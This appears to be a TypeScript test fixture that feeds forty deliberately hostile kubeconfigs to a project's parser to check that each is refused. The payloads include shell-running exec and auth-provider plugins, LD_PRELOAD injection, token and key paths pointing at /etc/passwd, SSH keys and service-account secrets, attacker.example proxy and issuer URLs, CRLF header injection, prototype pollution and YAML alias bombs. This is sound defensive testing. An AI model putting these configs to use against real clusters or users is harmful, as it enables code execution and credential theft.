/**
 * Forty kubeconfigs that elsewhere would run programs, read files or send credentials astray. Run as a program, it
 * reads each and prints the result, one line each; its test runs it without the right to do anything else.
 */
import { pathToFileURL } from 'node:url';
import { Refusal } from '../../../src/core/kernel/rules/problem.ts';
import { readKubeconfig } from '../../../src/kubernetes/kubeconfig.ts';

type Fields = Readonly<Record<string, unknown>>;

const secretFile = '/etc/hostname';

function kubeconfig(cluster: Fields, user: Fields, top: Fields = {}): string {
  return JSON.stringify({
    apiVersion: 'v1',
    kind: 'Config',
    'current-context': 'main',
    contexts: [{ name: 'main', context: { cluster: 'c', user: 'u' } }],
    clusters: [{ name: 'c', cluster: { server: 'https://10.0.0.1', ...cluster } }],
    users: [{ name: 'u', user: { token: 'canary', ...user } }],
    ...top,
  });
}
const withUser = (user: Fields) => kubeconfig({}, user);
const withCluster = (cluster: Fields) => kubeconfig(cluster, {});
const exec = { apiVersion: 'client.authentication.k8s.io/v1', command: '/bin/sh', args: ['-c', 'touch /tmp/hostile'] };
const yaml = (lines: string) =>
  `current-context: main\ncontexts: [{name: main, context: {cluster: c, user: u}}]\n${lines}`;
const laughs = Array.from(
  { length: 9 },
  (_, index) => `l${index + 1}: &l${index + 1} [${Array(9).fill(`*l${index}`).join(', ')}]`,
);

export const hostileKubeconfigs: readonly string[] = [
  withUser({ exec }),
  withUser({ exec: { command: 'sh' } }),
  withUser({ exec: 'sh' }),
  withUser({ exec: [exec] }),
  withUser({ exec: { ...exec, env: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }] } }),
  withUser({ token: '', exec: { ...exec, interactiveMode: 'Always' } }),
  withUser({ 'auth-provider': { name: 'gcp', config: { 'cmd-path': '/bin/sh', 'cmd-args': '-c id' } } }),
  withUser({ 'auth-provider': { name: 'oidc', config: { 'idp-issuer-url': 'https://attacker.example' } } }),
  withUser({ 'auth-provider': 'azure' }),
  withUser({ tokenFile: secretFile }),
  withUser({ tokenFile: `file://${secretFile}` }),
  withUser({ tokenFile: '../../../../etc/passwd' }),
  withUser({ tokenFile: '/proc/self/environ' }),
  withUser({ tokenFile: ['/etc/passwd'] }),
  withUser({ token: '', tokenFile: '/var/run/secrets/kubernetes.io/serviceaccount/token' }),
  withUser({ 'client-certificate': secretFile, 'client-key': secretFile }),
  withUser({ 'client-key': '/root/.ssh/id_rsa' }),
  withUser({ 'client-certificate': '\\\\attacker.example\\share\\cert' }),
  withUser({ username: 'admin', password: 'canary' }),
  withUser({ password: 'canary' }),
  withUser({ as: 'system:admin' }),
  withUser({ 'as-groups': ['system:masters'] }),
  withUser({ 'as-uid': '0' }),
  withUser({ 'as-user-extra': { scopes: ['all'] } }),
  withUser({ token: 'a\r\nX-Injected: 1' }),
  withUser({ token: { toString: 'canary' } }),
  withUser({ 'client-certificate-data': '!!!', 'client-key-data': '!!!' }),
  withCluster({ 'certificate-authority': secretFile }),
  withCluster({ 'certificate-authority': '/dev/zero' }),
  withCluster({ 'insecure-skip-tls-verify': true }),
  withCluster({ 'insecure-skip-tls-verify': 'yes' }),
  withCluster({ 'proxy-url': 'socks5://attacker.example' }),
  withCluster({ server: 'http://10.0.0.1' }),
  withCluster({ server: `file://${secretFile}` }),
  withCluster({ server: 'https://user:canary@10.0.0.1' }),
  withCluster({ server: 'unix:///var/run/docker.sock' }),
  kubeconfig({}, {}, { 'current-context': '__proto__', contexts: { __proto__: { context: {} } } }),
  yaml('clusters: !!js/function "function () { require(\'fs\') }"\nusers: []'),
  yaml(`l0: &l0 x\n${laughs.join('\n')}\nclusters: *l9\nusers: *l9`),
  yaml(`<<: !include ${secretFile}\nclusters: []\nusers: []`),
];

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  for (const text of hostileKubeconfigs) {
    try {
      readKubeconfig(text);
      console.log('taken');
    } catch (error) {
      console.log(error instanceof Refusal ? `refused ${error.code}` : `failed ${String(error)}`);
    }
  }
  console.log(
    `may run programs: ${process.permission.has('child')}, may read ${secretFile}: ${process.permission.has('fs.read', secretFile)}`,
  );
}
